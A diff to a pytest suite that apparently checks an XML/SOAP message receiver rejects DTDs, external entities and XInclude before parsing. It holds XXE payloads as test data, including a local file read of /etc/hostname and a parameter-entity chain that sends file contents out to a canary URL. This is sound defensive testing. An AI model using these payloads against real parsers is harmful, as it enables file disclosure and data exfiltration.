@@ -30,14 +30,14 @@ def put(octets: bytes, inside: bytes, *, instead: bytes = SURNAME.encode()) -> b
 # --- entities, DTDs, fetching ---------------------------------------------------------------------
 
 SUBSETS = {
-    "external entity, file": '[<!ENTITY x SYSTEM "file:///etc/hostname">]',
+    "external entity, file": '[<!ENTITY x SYSTEM "{file}">]',
     "external entity, http": '[<!ENTITY x SYSTEM "{canary}">]',
     "external entity, public": '[<!ENTITY x PUBLIC "-//X//X" "{canary}">]',
     "external entity, jar": '[<!ENTITY x SYSTEM "jar:{canary}!/x">]',
     "external entity, netdoc": '[<!ENTITY x SYSTEM "netdoc:/etc/hostname">]',
     "parameter entity": '[<!ENTITY % p SYSTEM "{canary}"> %p; <!ENTITY x "">]',
     "parameter entity that builds another": (
-        '[<!ENTITY % f SYSTEM "file:///etc/hostname">'
+        '[<!ENTITY % f SYSTEM "{file}">'
         ' <!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{canary}?%f;\'>"> %e; %s;]'),
     "external subset": 'SYSTEM "{canary}"',
     "external subset, public": 'PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{canary}"',
@@ -55,7 +55,7 @@ SUBSETS = {
 @pytest.mark.parametrize("subset", SUBSETS)
 def test_a_document_type(target: Target, subset: str, declared: bool) -> None:
     """With the entity used in the message, in front of an otherwise good request; refused before it is parsed."""
-    doctype = f"<!DOCTYPE s:Envelope {SUBSETS[subset].replace('{canary}', target.canary.url)}>"
+    doctype = f"<!DOCTYPE s:Envelope {target.plant(SUBSETS[subset])}>"
     prolog = '<?xml version="1.0" encoding="UTF-8"?>\n' if declared else ""
     used = target.signed() if "x " not in SUBSETS[subset] else put(target.signed(), b"&x;")
     target.repels((prolog + doctype).encode() + used, NotXml, reason="DTD", cpu=0.05)
@@ -95,8 +95,8 @@ def test_references_to_no_character(target: Target, number: str) -> None:
 
 @pytest.mark.parametrize("signed", [True, False])
 def test_xinclude(target: Target, signed: bool) -> None:
-    for attribute in (f'href="{target.canary.url}"', 'href="file:///etc/hostname" parse="text"', 'xpointer="x"'):
-        include = f'<xi:include xmlns:xi="{XI}" {attribute}/>'.encode()
+    for attribute in (f'href="{target.canary.url}"', 'href="{file}" parse="text"', 'xpointer="x"'):
+        include = f'<xi:include xmlns:xi="{XI}" {target.plant(attribute)}/>'.encode()
         octets = target.signed(put(message(), include)) if signed else put(target.signed(), include)
         target.repels(octets, SchemaInvalid if signed else SignatureInvalid)
 
@@ -279,7 +279,7 @@ def test_many_repeated_elements(target: Target) -> None:
 ])
 def test_attributes_no_schema_knows(target: Target, attribute: str) -> None:
     """Signed by who may sign: R2113 and the rest fall under the schema."""
-    extra = attribute.replace("{canary}", target.canary.url).encode()
+    extra = target.plant(attribute).encode()
     for place in (b"<sr:Vorderingen", b"<kn:Berichtheader", b"<kn:Achternaam", b"<sr:Kennisgeving"):
         target.repels(target.signed(message().replace(place, place + b" " + extra, 1)), SchemaInvalid)
 
